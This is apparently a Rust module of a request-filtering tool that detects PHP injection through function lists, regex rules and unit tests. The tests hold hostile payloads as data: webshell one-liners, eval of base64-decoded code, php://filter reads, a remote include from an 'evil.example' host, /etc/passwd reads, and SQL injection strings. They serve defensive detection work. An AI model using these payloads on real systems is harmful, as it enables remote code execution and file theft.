//! PHP injection: opening tags, function calls read the way PHP reads them (a name, an
//! optional gap of whitespace and comments, `(` and arguments; see [`Php::calls`]) where the
//! name only PHP has or the arguments only code writes, computed and variable callables,
//! superglobals, serialized objects (`O:8:"stdClass":…`), php.ini directives, include
//! statements and stream wrappers that turn file access into code execution.

use std::collections::HashMap;
use std::hash::BuildHasherDefault;

use super::prefilter::{lit, lits, LitId, LitSet, Lits};
use super::rules::{first, Rule};
use super::words::Fnv;
use super::{AttackType, Detector, Finding};
use crate::point::Leaf;

pub struct Php {
    rules: Vec<Rule>,
    short_tag: LitId,
    paren: LitId,
    /// Literals an upload name PHP runs must contain (`.php`, `.phtml`, `.pgif`, `sess_`).
    upload_gate: Lits,
    names: NameMap,
}

/// What a function name is to PHP, looked up once per identifier followed by `(`.
const N_EXEC: u8 = 1;
/// A name only PHP has: called with anything, even glued to other text.
const N_GLUED: u8 = 2;
/// A name only PHP has, as a whole word.
const N_ONLY: u8 = 4;
/// A word prose puts before a parenthesis too (see [`PROSE`]).
const N_PROSE: u8 = 8;

type NameMap = HashMap<&'static str, u8, BuildHasherDefault<Fnv>>;

/// Functions that run code, commands or reach files and the network: called with an argument
/// that only code has (a string, a variable, a call, a bare constant), they are an attack.
/// Several are English words (`system`, `include`, `die`), hence the argument test.
const EXEC: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "str_rot13",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "fwrite",
    "readfile",
    "include",
    "include_once",
    "require",
    "require_once",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "preg_replace",
    "phpinfo",
    "highlight_file",
    "show_source",
    "unserialize",
    "move_uploaded_file",
    "chr",
    "ord",
    "fsockopen",
    "curl_exec",
    "mail",
    "putenv",
    "ini_set",
    "set_time_limit",
    "array_map",
    "usort",
    "uasort",
    "array_filter",
    "var_dump",
    "print_r",
    "die",
    "md5",
    "sha1",
    "hex2bin",
    "convert_uu",
    "parse_str",
    "extract",
    "escapeshellcmd",
    "symlink",
    "chmod",
    "unlink",
    "get_defined_vars",
    "getenv",
    "glob",
    "scandir",
    "opendir",
    "dl",
];

/// Names of [`EXEC`] that prose writes before a parenthesis (`the system (beta)`, `mail
/// (optional)`): spaced from their `(`, they need a statement end to count as a call.
const PROSE: &[&str] = &[
    "system", "exec", "eval", "assert", "include", "require", "mail", "die", "extract", "glob",
    "ord", "chr", "dl", "md5", "sha1", "usort", "print_r", "var_dump", "getenv",
];

/// Names of [`EXEC`] that SQL dialects have as functions too (Oracle/PostgreSQL `chr`, MySQL
/// `ord`, `md5`, `sha1`): called with a number, they are PHP only when joined PHP's way.
const SQL_TOO: &[&str] = &["chr", "ord", "md5", "sha1"];

/// Names unlikely anywhere but PHP code: called with any argument, even glued to other text
/// (`FOOcall_user_func()`).
const GLUED: &[&str] = &[
    "shell_exec",
    "proc_open",
    "pcntl_exec",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "bzdecompress",
    "str_rot13",
    "file_get_contents",
    "file_put_contents",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "preg_replace",
    "phpinfo",
    "highlight_file",
    "show_source",
    "move_uploaded_file",
    "fsockopen",
    "pfsockopen",
    "curl_exec",
    "hex2bin",
    "convert_uu",
    "escapeshellcmd",
    "escapeshellarg",
    "get_defined_vars",
    "gethostbyname",
];

/// PHP's own functions that read or write files, reveal the host, call code by name or
/// decode obfuscated code; none is an English word or a common identifier of other
/// languages. A call of one in a parameter is PHP code worth reporting; harmless library
/// functions (`strlen`, `filemtime`, `in_array`) are left out on purpose, as code snippets
/// in forms call them too.
const ONLY: &[&str] = &[
    // Files and directories: reading, writing, ownership and permissions.
    "filegroup",
    "fileinode",
    "fileowner",
    "fileperms",
    "is_writable",
    "is_writeable",
    "is_executable",
    "fgetc",
    "fgetcsv",
    "fgets",
    "fgetss",
    "fpassthru",
    "fputcsv",
    "fputs",
    "fread",
    "fscanf",
    "ftruncate",
    "tmpfile",
    "tempnam",
    "readlink",
    "lchown",
    "lchgrp",
    "chgrp",
    "chown",
    "parse_ini_file",
    "disk_free_space",
    "disk_total_space",
    "diskfreespace",
    "getcwd",
    "chdir",
    "chroot",
    "readdir",
    "rewinddir",
    "closedir",
    "fclose",
    "pclose",
    "gzopen",
    "gzread",
    "gzfile",
    "bzopen",
    "bzread",
    "stream_get_contents",
    "md5_file",
    "sha1_file",
    "hash_file",
    "dbmopen",
    "lstat",
    "assert_options",
    "gzpassthru",
    // Processes, the host, the interpreter and its configuration.
    "proc_close",
    "proc_get_status",
    "proc_nice",
    "proc_terminate",
    "pcntl_fork",
    "pcntl_signal",
    "getmypid",
    "getmyuid",
    "getmygid",
    "getmyinode",
    "get_current_user",
    "getrusage",
    "php_uname",
    "phpversion",
    "phpcredits",
    "php_sapi_name",
    "php_ini_loaded_file",
    "php_ini_scanned_files",
    "zend_version",
    "sys_get_temp_dir",
    "get_cfg_var",
    "get_include_path",
    "set_include_path",
    "ini_get",
    "ini_get_all",
    "ini_alter",
    "ini_restore",
    "ignore_user_abort",
    "getopt",
    "error_log",
    "set_error_handler",
    "set_exception_handler",
    "debug_zval_dump",
    "__halt_compiler",
    "php_strip_whitespace",
    "highlight_string",
    "get_loaded_extensions",
    "getallheaders",
    "apache_request_headers",
    // Calling code by name or as a callback.
    "forward_static_call",
    "forward_static_call_array",
    "register_shutdown_function",
    "register_tick_function",
    "spl_autoload_register",
    "array_walk",
    "array_walk_recursive",
    "array_reduce",
    "uksort",
    "iterator_apply",
    "ob_start",
    "preg_replace_callback",
    "preg_replace_callback_array",
    "mb_ereg_replace",
    "mb_eregi_replace",
    "mb_ereg_replace_callback",
    "get_defined_functions",
    "get_defined_constants",
    "call_user_method",
    "call_user_method_array",
    "function_exists",
    // Decoders that unwrap obfuscated code.
    "gzdeflate",
    "gzcompress",
    "gzencode",
    "bzcompress",
    "convert_uudecode",
    "convert_uuencode",
    "bin2hex",
    "str_rot13",
    "strrev",
    "quoted_printable_decode",
    "base64_encode",
    // Network, mail, directories and databases reached from the server.
    "stream_socket_client",
    "stream_socket_server",
    "stream_context_create",
    "stream_wrapper_register",
    "stream_filter_append",
    "socket_create",
    "socket_connect",
    "curl_init",
    "curl_setopt",
    "curl_setopt_array",
    "gethostbyaddr",
    "gethostbynamel",
    "dns_get_record",
    "checkdnsrr",
    "getmxrr",
    "ftp_connect",
    "ftp_login",
    "ftp_get",
    "ftp_put",
    "imap_open",
    "imap_mail",
    "ldap_connect",
    "ldap_bind",
    "ldap_search",
    "mysql_query",
    "mysql_connect",
    "mysqli_query",
    "mysqli_connect",
    "sqlite_query",
    "simplexml_load_string",
    "simplexml_load_file",
    "is_array",
    "is_string",
    "is_numeric",
    "is_callable",
    "is_object",
    "is_resource",
    "checkdate",
    "date_add",
];

/// PHP extension families (`posix_`, `pcntl_`, `curl_`…) whose functions reach the host,
/// processes, the network or a database: any name of the family, as a whole word.
/// PostgreSQL's own `pg_` functions (`pg_sleep(5)`, `pg_read_file(…)`): SQL injection, which
/// the SQL detector reports, not PHP's `pg_` extension (none of PHP's functions starts so).
const POSTGRES_SERVER: &[&str] = &[
    "pg_sleep",
    "pg_read_",
    "pg_ls_",
    "pg_stat_",
    "pg_backend_pid",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_logdir_ls",
    "pg_file_",
    "pg_typeof",
    "pg_size_pretty",
    "pg_database_size",
    "pg_relation_size",
    "pg_table_size",
    "pg_total_relation_size",
    "pg_current_",
    "pg_postmaster_",
    "pg_is_in_recovery",
    "pg_get_userbyid",
    "pg_get_viewdef",
];

const FAMILIES: &[&str] = &[
    "array_diff",
    "posix_",
    "apache_",
    "mb_ereg",
    "pg_",
    "sodium_crypto_",
    "curl_",
    "get_defined_",
    "openssl_",
    "mysqli_",
    "stream_socket_",
    "proc_",
    "pcntl_",
    "ftp_",
    "imap_",
    "ldap_",
    "socket_",
    "sqlite_",
    "oci_",
    "odbc_",
    "mssql_",
    "sqlsrv_",
    "runkit_",
    "uopz_",
    "ffi_",
    "yaml_parse",
];

/// Classes whose construction reads files or calls functions by name.
const CLASSES: &[&str] = &[
    "reflectionfunction",
    "reflectionmethod",
    "reflectionclass",
    "splfileobject",
    "splfileinfo",
    "spltempfileobject",
    "directoryiterator",
    "filesystemiterator",
    "recursivedirectoryiterator",
    "globiterator",
    "simplexmlelement",
    "phardata",
    "phar",
    "ziparchive",
    "pdo",
    "mysqli",
    "soapclient",
    "arrayobject",
    "closure",
];

fn name_map() -> NameMap {
    let mut m = NameMap::default();
    for (list, flag) in [
        (EXEC, N_EXEC),
        (GLUED, N_GLUED),
        (ONLY, N_ONLY),
        (PROSE, N_PROSE),
    ] {
        for n in list {
            *m.entry(n).or_insert(0) |= flag;
        }
    }
    m
}

fn ident_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// Longest comment read between a function name and its `(`; it keeps a value of many
/// unclosed `/*` linear.
const MAX_COMMENT: usize = 256;

/// Skips what PHP allows between a function name and its `(`: whitespace and comments.
/// Returns the position after it and whether it held a comment.
fn skip_gap(b: &[u8], mut i: usize) -> (usize, bool) {
    let mut comment = false;
    loop {
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let rest = &b[i.min(b.len())..];
        let close = if rest.starts_with(b"/*") {
            memchr::memmem::find(&rest[2..rest.len().min(MAX_COMMENT)], b"*/").map(|e| e + 4)
        } else if rest.starts_with(b"#") || rest.starts_with(b"//") {
            memchr::memchr(b'\n', &rest[..rest.len().min(MAX_COMMENT)]).map(|e| e + 1)
        } else {
            None
        };
        match close {
            Some(n) => {
                comment = true;
                i += n;
            }
            None => return (i, comment),
        }
    }
}

impl Php {
    pub fn new() -> Self {
        // Between a function name and its `(`, PHP allows whitespace and comments.
        let gap = r"(?:\s|/\*[^*]*\*/|(?:#|//)[^\n]*\n)*";
        let rules = vec![
            Rule::new(
                &["<?", "php]", "php}", "language"],
                r#"<\?(?:php|=|\s*$|\s+(?:php\b|echo|print|system|eval|exec|passthru|include|require|\$))|[\[{]\\?/?php[\]}]|<script\s+language\s*=\s*["']?php"#,
                "php opening tag",
            ),
            // A computed callable called and ended like a statement: `(sy.(st).em)('uname');`,
            // `[system][0](ls);`, `"system"(ls);`, `(x)/* c */('uname');`; a concatenated
            // name needs no statement end: `(sy.(st).em)(@id)`.
            Rule::new(
                &[";", ")("],
                &format!(
                    r#"(?:[\])}}]|["'][a-z0-9_\\]*["']){gap}\(\s*(?:['"$][^()]*|[a-z0-9_ ./*]*)\)\s*;|\(\s*[a-z_]+\s*\.\s*\([^()]*\)\s*\.[^()]*\)\s*\("#
                ),
                "php dynamic call",
            ),
            Rule::new(
                &["$"],
                &format!(r"\$+\{{?[a-z_][a-z0-9_]*\}}?(?:{gap}\[[^\]]+\])*{gap}\(|\$\$+[a-z_]"),
                "php variable function call",
            ),
            Rule::new(
                &["="],
                r"^\s*(?:allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|auto_detect_line_endings|disable_functions|disable_classes|open_basedir|safe_mode\w*|engine|extension|zend_extension|register_globals|register_argc_argv|include_path|error_log|memory_limit|max_execution_time|max_input_(?:time|vars|nesting_level)|max_file_uploads|upload_max_filesize|upload_tmp_dir|post_max_size|display_(?:startup_)?errors|html_errors|error_reporting|log_errors\w*|short_open_tag|asp_tags|expose_php|file_uploads|enable_dl|doc_root|user_dir|sys_temp_dir|default_charset|default_mimetype|default_socket_timeout|implicit_flush|ignore_user_abort|precision|serialize_precision|variables_order|request_order|sendmail_(?:path|from)|smtp_port|unserialize_max_depth|unserialize_callback_func|output_buffering|output_handler|realpath_cache_\w+|magic_quotes_\w+|track_errors|y2k_compliance|user_agent|user_ini\.[a-z_]+|(?:opcache|session|mbstring|pcre|phar|assert|zend|xdebug|mail|date|cgi|fastcgi|zlib|mysqli?|pdo_mysql|sqlite3|highlight|arg_separator|filter|iconv|intl|soap|curl|openssl|apc|apcu|odbc|ldap|pgsql|bcmath|exif|gd|tidy|yaml|ffi|syslog|url_rewriter|browscap|hard_timeout|com|dba|ibase|oci8|xmlrpc_errors|uploadprogress)\.[a-z_]+)\s*=",
                "php.ini directive",
            ),
            Rule::new(
                &["$_", "$globals", "$http_", "$argv"],
                r"\$(?:_(?:get|post|request|cookie|server|files|env|session)\b|globals\b|http_\w+_vars|http_raw_post_data\b|http_post_files\b|argv\b)",
                "php superglobal",
            ),
            Rule::new(
                // `o:8:"…"` and `a:1:{` hold these; `a:` alone is in every `data:`.
                &[":\"", ":{"],
                r#"(?:^|[^a-z])(?:o|c):\+?\d+:\x22[a-z_\\][a-z0-9_\\]*\x22:\d+:\{|^a:\d+:\{(?:[sid]:\d+)"#,
                "serialized php object",
            ),
            Rule::new(
                &["://"],
                r"\b(?:php|phar|zip|zlib|compress\.zlib|compress\.bzip2|data|expect|glob|ssh2\.\w+|rar|ogg)://",
                "php stream wrapper",
            ),
            // `data:text/plain;base64,…` handed to `include`/`file_get_contents`: PHP reads
            // the wrapper without `//` too. Images and fonts are what data URLs carry in forms.
            Rule::new(
                &["data:"],
                r"^\s*data:(?:text/(?:plain|x-php|php)|application/(?:x-)?(?:httpd-)?php)\s*(?:[;,]|$)",
                "php data wrapper",
            ),
            Rule::new(
                &["${", "$ ", "{$"],
                r"\$\s*\{\s*(?:@|['\x22]|_|\$|\w+\s*\()",
                "php variable variable",
            ),
            // `include 'http://x/s.txt';`, `require_once $_GET['p'];`: the statement forms,
            // without parentheses, with a target only code names.
            Rule::new(
                &["include", "require"],
                r#"\b(?:include|require)(?:_once)?\s*\(?\s*(?:\$[a-z_]|['"][^'"]*(?:://|\.(?:php\d?|phtml|inc|txt)['"]|/etc/))"#,
                "php include statement",
            ),
            Rule::new(
                &["new ", "new\t", "new\n"],
                &format!(r"\bnew\s+\\?(?:{})\s*\(", CLASSES.join("|")),
                "php reflective class",
            ),
        ];
        Php {
            rules,
            short_tag: lit("<?"),
            paren: lit("("),
            upload_gate: lits(&["ph", "pgif", "sess_"]),
            names: name_map(),
        }
    }

    /// Function calls, read the way PHP reads them: a name, optional whitespace and
    /// comments, `(`, then arguments. What decides is the name (only PHP has it, or it runs
    /// code) and what the call looks like (an argument only code writes, a comment in the
    /// gap, a statement end).
    fn calls(&self, s: &str) -> Option<(usize, usize, &'static str)> {
        let b = s.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if !(b[i].is_ascii_alphabetic() || b[i] == b'_') || i > 0 && ident_byte(b[i - 1]) {
                i += 1;
                continue;
            }
            let start = i;
            let mut e = i;
            while e < b.len() && ident_byte(b[e]) {
                e += 1;
            }
            i = e;
            let (p, comment) = skip_gap(b, e);
            if b.get(p) != Some(&b'(') || e - start > 64 {
                // `('system')('id')`, `("system  ")("id")`: a quoted name in parentheses, called.
                let post = s[e..].trim_start_matches([' ', '\'', '"']);
                if post.starts_with(')')
                    && post[1..].trim_start().starts_with('(')
                    && s[..start].trim_end_matches([' ', '\'', '"']).ends_with('(')
                    && self
                        .names
                        .get(&s[start..e])
                        .is_some_and(|f| f & N_EXEC != 0)
                {
                    return Some((start, (e + 48).min(s.len()), "php variable function call"));
                }
                continue;
            }
            let name = &s[start..e];
            let spaced = p > e && !comment;
            let before = start.checked_sub(1).map(|q| b[q]);
            // `$f(`, `->m(`, `.m(`, `::m(`: a variable, method or member, other rules' business.
            let whole = !before.is_some_and(|c| matches!(c, b'$' | b'.' | b'>' | b'-' | b':'));
            let flags = self.names.get(name).copied().unwrap_or(0);
            let found = |reason| Some((start, (p + 48).min(s.len()), reason));
            if flags & N_GLUED != 0
                || GLUED
                    .iter()
                    .any(|g| name.len() > g.len() && name.ends_with(g))
            {
                return found("php code-execution call");
            }
            if !whole {
                continue;
            }
            // A family prefix needs a name after it; a whole name (`array_diff`) is one itself.
            let family = FAMILIES
                .iter()
                .any(|f| name.starts_with(f) && (name.len() > f.len() + 1 || !f.ends_with('_')))
                && !POSTGRES_SERVER.iter().any(|p| name.starts_with(p));
            if flags & N_ONLY != 0 || family {
                return found("php function call");
            }
            // `touch/*a*/()`, `range #x\n ()`: a comment between a name and its `(` is code.
            if comment {
                return found("php call with a comment");
            }
            let (arg, _) = skip_gap(b, p + 1);
            let a = b.get(arg).copied();
            if flags & N_EXEC != 0 {
                // Bounded: a value of many unclosed calls stays linear.
                let close = memchr::memchr(b')', &b[p..b.len().min(p + 256)]).map(|c| p + c);
                // `system('id')`, `eval($x)`, `chr(65)`, `exec(base64_decode(…))`, `die()`.
                let word = b[arg..].iter().take_while(|c| ident_byte(**c)).count();
                let digit_arg = a.is_some_and(|c| c.is_ascii_digit()) && {
                    let d = b[arg..].iter().take_while(|c| c.is_ascii_digit()).count();
                    b[arg + d..].iter().find(|c| !c.is_ascii_whitespace()) == Some(&b')')
                        // `chr(113)||chr(…)`, `md5(1),`: SQL has these functions too (sqlmap
                        // builds strings with them); PHP joins with `.` or ends a statement.
                        && (!SQL_TOO.contains(&name)
                            || close.is_some_and(|c| {
                                let t = s[c + 1..].trim_start();
                                t.is_empty() || t.starts_with(['.', ';', '?'])
                            }))
                };
                let code_arg = matches!(a, Some(b'\'' | b'"' | b'`' | b'$' | b'(' | b')'))
                    || word > 0 && {
                        let (n, _) = skip_gap(b, arg + word);
                        b.get(n) == Some(&b'(')
                    }
                    || digit_arg;
                // `system(ls)`, `exec/**/(id)`: a bare constant, unspaced.
                let bare = word > 0 && !b[arg].is_ascii_digit() && {
                    let (n, _) = skip_gap(b, arg + word);
                    b.get(n) == Some(&b')')
                };
                if code_arg && (a != Some(b')') || !spaced) || !spaced && bare {
                    return found("php code-execution call");
                }
                // `system (id);`, `fopen  (blah)`: spaced, it must end like a statement, or
                // end the value with a name prose does not use.
                if spaced && (bare || a == Some(b')')) {
                    if let Some(c) = close {
                        let t = s[c + 1..].trim_start();
                        if t.starts_with(';')
                            || t.starts_with("?>")
                            || t.is_empty() && flags & N_PROSE == 0
                        {
                            return found("php code-execution call");
                        }
                    }
                }
            }
        }
        None
    }
}

/// The lower-cased uploaded file name: the shared upload points, plus header spellings with
/// a dot (`X.Filename`) that some proxies pass through.
fn upload_name(leaf: &Leaf) -> Option<&str> {
    super::upload::filename(leaf).or_else(|| {
        let h = leaf.header.as_deref()?;
        matches!(h, "X.FILENAME" | "X.FILE-NAME" | "X.FILE.NAME").then_some(leaf.lower.as_str())
    })
}

/// `a.php`, `a.php5...`, `x.php907`, `t.phpt`: an extension PHP handlers run (any `php`
/// followed by digits, as `AddHandler` patterns accept), Windows dropping trailing dots.
fn php_extension(name: &str) -> bool {
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    base.split('.').skip(1).any(|p| {
        let p = p.trim_matches([' ', '\t', '\0']);
        let digits = p
            .strip_prefix("php")
            .is_some_and(|d| d.bytes().all(|c| c.is_ascii_digit()));
        digits || matches!(p, "phtml" | "phar" | "pht" | "phps" | "phpt" | "pgif")
    })
}

/// `sess_<id>`: the file PHP keeps a session in; uploading one plants session data.
fn session_file(name: &str) -> bool {
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    base.strip_prefix("sess_").is_some_and(|id| {
        id.len() >= 16
            && id
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b',')
    })
}

/// `<?system($c)?>`, `<?=$x`, `<? $a(…)`: an open tag whose first statement is a call or a
/// variable. XML declarations and processing instructions (`<?xml version=…`) start with a
/// target name and pseudo-attributes instead.
fn short_tag_code(s: &str) -> Option<usize> {
    for (tries, (p, _)) in s.match_indices("<?").enumerate() {
        if tries == 8 {
            break;
        }
        let body = s[p + 2..]
            .strip_prefix('=')
            .unwrap_or(&s[p + 2..])
            .trim_start();
        let b = body.as_bytes();
        if b.first() == Some(&b'$')
            && b.get(1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
        {
            return Some(p);
        }
        let name = b
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        if name > 0 && body[name..].trim_start().starts_with('(') {
            return Some(p);
        }
    }
    None
}

impl Detector for Php {
    fn attack(&self) -> AttackType {
        AttackType::PhpInjection
    }

    fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
        if let Some(name) = present
            .any(&self.upload_gate)
            .then(|| upload_name(leaf))
            .flatten()
        {
            let reason = if php_extension(name) {
                Some("php file upload")
            } else if session_file(name) {
                Some("php session file upload")
            } else {
                None
            };
            if let Some(reason) = reason {
                return Some(Finding {
                    at: 0..leaf.lower.len(),
                    reason,
                });
            }
        }
        if present.has(self.short_tag) {
            if let Some(p) = short_tag_code(&leaf.lower) {
                return Some(Finding {
                    at: p..leaf.lower.len().min(p + 64),
                    reason: "php opening tag",
                });
            }
        }
        if present.has(self.paren) {
            if let Some((a, b, reason)) = self.calls(&leaf.lower) {
                return Some(Finding { at: a..b, reason });
            }
        }
        first(&self.rules, &leaf.lower, present).map(|(a, b, reason)| Finding { at: a..b, reason })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(v: &str) -> bool {
        crate::detect::check_one(&Php::new(), v).is_some()
    }

    #[test]
    fn finds_php_injection() {
        for v in [
            "<?php system($_GET['c']); ?>",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
            "php://filter/convert.base64-encode/resource=index.php",
            "(system)(ls);",
            "eval(base64_decode('ZWNobyAx'))",
            "$_SERVER['test'];",
            "FOOcall_user_func()",
            "exec #comment\n (blah)",
            "(sy.(st).em)('uname');",
            "[system][0](ls);",
            "$a(1)",
            "@$__[o](4)",
            "[php]echo 'test';[/php]",
            "allow_url_include=on",
            "<?passthru($_GET[c])?>",
            "<?= $cmd ?>",
            "<? php echo 1",
            "curl_exec ($ch)",
            "get_defined_vars ()",
            "pg_query($db, $q)",
            "openssl_decrypt($a)",
            "$f/* x */('id')",
            "$x[0] /**/ ()",
            "(' system ')('id')",
            "${$name}",
            "$ { $name }",
            "memory_limit = -1",
            "display_errors=On",
            "data:text/plain;base64,PD9waHA=",
            "data:application/x-httpd-php,<?php",
            "system (id);",
            "exec/**/(ls)",
            // Calls read by their grammar: comments in the gap, quoted names called,
            // PHP-only functions, statement forms of include.
            "touch/*a*/()",
            "readfile /**/ ('x')",
            "('system')('whoami')",
            "(\"system  \")(\"id\")",
            "(sy.(st).em)(@id)",
            "fopen  (blah)",
            "array_diff (",
            "fputcsv($fp, $row)",
            "php_uname()",
            "get_current_user()",
            "register_shutdown_function('system','id');",
            "ob_start('system');",
            "include 'http://evil.example/shell.txt';",
            "require_once $_REQUEST['x'];",
            "$x = new SplFileObject('/etc/passwd');",
            "$$x = 'y';",
            "$              {         $a}",
            "date.timezone=UTC",
            "precision=14",
            "<script language=\"php\">system(\"id\");</script>",
            "chr(115).chr(121)",
            "chr(65);",
            "chr(65)",
        ] {
            assert!(hit(v), "{v}");
        }
    }

    /// `chr(113)||chr(106)`: SQL's CHR (sqlmap's string building), which the SQL detector
    /// reports; PHP joins with `.`.
    #[test]
    fn leaves_sql_string_functions_to_sqli() {
        for v in [
            "1 and 2853=cast((chr(113)||chr(106)||chr(112)) as numeric)",
            "select dbms_pipe.receive_message(chr(66)||chr(66),5) from dual",
            "1) and 7=(select upper(xmltype(chr(60)||chr(58))) from dual",
            "select md5(1),sha1(2) from t",
            "1 and 6969=(select 6969 from pg_sleep(5))--",
            "1;select pg_read_file('/etc/passwd')",
        ] {
            assert!(!hit(v), "{v}");
        }
    }

    #[test]
    fn ignores_ordinary_text() {
        for v in [
            "the system (as designed) works",
            "include a note",
            "https://example.com/a.php?x=1",
            "price: $5",
            "a:b:c",
            "see the system (as designed) in chapter 3",
            "costs $5 (approx.)",
            "jQuery $(document).ready(fn);",
            "call me (maybe); ok",
            "engine: v8",
            "npm exec (npx) programmatic API",
            "the system (beta) ships soon",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"s.xsl\"?>",
            "<?xb echo 1;",
            "$a[]()",
            "${name}",
            "data:image/png;base64,iVBORw0KGgo=",
            "memory limit = 512M",
            "numpy.array_split(a, 3)",
            // Prose before parentheses, harmless library calls and other languages' code.
            "mail (optional)",
            "exit (left side)",
            "file (pdf)",
            "range (1-5)",
            "Chapter 3 (System)",
            "print('hi')  # greet the user",
            "def copy(x): return x",
            "audiofile($foo)",
            "filemtime($foo)",
            "please include 'urgent' in the subject",
            "precision matters",
        ] {
            assert!(!hit(v), "{v}");
        }
    }

    #[test]
    fn upload_names() {
        for n in [
            "a.php",
            "x.php5...",
            "d/x.php907..",
            "t.phpt",
            "s.phps",
            "b.phtml ",
        ] {
            assert!(php_extension(n), "{n}");
        }
        for n in ["a.phpx", "php.jpg", "notes.txt", "a.pdf"] {
            assert!(!php_extension(n), "{n}");
        }
        assert!(session_file(
            "/var/lib/php/sessions/sess_9f8e7d6c5b4a39281726"
        ));
        assert!(!session_file("sess_notes.txt"));
        assert!(!session_file("session_2024.csv"));
    }
}
